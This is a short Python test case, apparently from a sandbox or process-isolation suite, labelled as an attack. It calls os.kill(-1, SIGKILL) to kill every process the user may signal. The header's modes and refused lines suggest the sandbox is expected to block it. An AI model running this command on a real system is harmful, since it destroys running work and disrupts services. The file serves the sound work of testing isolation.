# attack: send SIGKILL to every process it is allowed to signal
# modes: strong
# refused: shared-user
# %%
import os
import signal
try:
    os.kill(-1, signal.SIGKILL)
except OSError:
    pass
